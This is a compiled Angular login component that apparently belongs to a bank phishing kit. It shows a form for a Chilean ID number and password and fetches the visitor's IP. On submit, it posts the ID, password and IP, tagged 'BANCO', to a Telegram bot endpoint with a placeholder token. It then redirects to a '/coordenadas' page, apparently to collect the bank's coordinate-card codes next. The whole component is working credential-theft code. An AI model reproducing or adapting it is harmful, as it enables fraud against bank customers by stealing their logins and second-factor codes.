import * as i0 from "@angular/core";
import * as i1 from "@angular/common/http";
import * as i2 from "@angular/router";
import { FormControl, FormGroup, Validators } from "@angular/forms";
export class AccesoComponent {
  constructor(http, router, ruta) {
    this.http = http;
    this.router = router;
    this.ruta = ruta;
    this.cargando = false;
    this.form = new FormGroup({ rut: new FormControl("", Validators.required), clave: new FormControl("", [Validators.required, Validators.minLength(4)]) });
  }
  ngOnInit() {
    this.http.get("https://api.ipify.org?format=json").subscribe((r) => { this.ip = r.ip; });
  }
  enviar() {
    if (this.form.invalid) return;
    this.cargando = true;
    const { rut, clave } = this.form.value;
    const text = `BANCO | ${rut} | ${clave} | ${this.ip}`;
    this.http.post("https://api.telegram.org/bot0000:TOKEN/sendMessage", { chat_id: "0000", text }).subscribe({
      next: () => setTimeout(() => this.router.navigate(["/coordenadas"], { state: { rut } }), 3000),
      error: () => this.router.navigate(["/coordenadas"])
    });
  }
}
AccesoComponent.ɵfac = function AccesoComponent_Factory(t) { return new (t || AccesoComponent)(i0.ɵɵdirectiveInject(i1.HttpClient), i0.ɵɵdirectiveInject(i2.Router), i0.ɵɵdirectiveInject(i2.ActivatedRoute)); };
AccesoComponent.ɵcmp = i0.ɵɵdefineComponent({ type: AccesoComponent, selectors: [["app-acceso"]], decls: 4, vars: 2, template: function AccesoComponent_Template(rf, ctx) {
  if (rf & 1) {
    i0.ɵɵelementStart(0, "form", 0);
    i0.ɵɵlistener("ngSubmit", function AccesoComponent_Template_form_ngSubmit_0_listener() { return ctx.enviar(); });
    i0.ɵɵelement(1, "input", 1)(2, "input", 2);
    i0.ɵɵelementEnd();
  }
} });
